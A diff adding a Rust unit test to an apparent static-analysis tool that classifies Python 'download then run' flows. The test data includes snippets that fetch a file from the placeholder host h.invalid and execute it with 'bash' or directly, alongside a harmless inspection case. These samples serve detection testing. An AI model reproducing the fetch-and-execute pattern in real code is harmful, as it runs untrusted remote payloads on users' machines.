@@ -257,3 +257,20 @@ fn lists_are_asked_about_what_some_program_told() {
     assert_eq!(asked("origin.asn.cymru.com"), Some(Severity::Medium));
     assert_eq!(asked("t.collect.invalid"), Some(Severity::High));
 }
+
+#[test]
+fn a_program_of_the_machine_that_is_given_a_file_is_for_people_to_look_at() {
+    let brake = |line: &str| {
+        let code = format!(
+            "import sys\nfrom subprocess import getstatusoutput\nfrom urllib.request import urlretrieve\n\
+             (name, _) = urlretrieve('https://h.invalid/picture')\nprint(getstatusoutput({line}))\n"
+        );
+        let outcome = outcome(Language::Python, &code);
+        let flows = flows::judge(&outcome, false);
+        flows.iter().find(|f| f.rule.id == "flow-download-run").map(|f| f.brake.is_some())
+    };
+    assert_eq!(brake("'rdjpgcom -verbose ' + name"), Some(true));
+    for line in ["'bash ' + name", "name", "'rdjpgcom -verbose ' + name + '; ' + name", "'./tool ' + name"] {
+        assert_eq!(brake(line), Some(false), "{line}");
+    }
+}
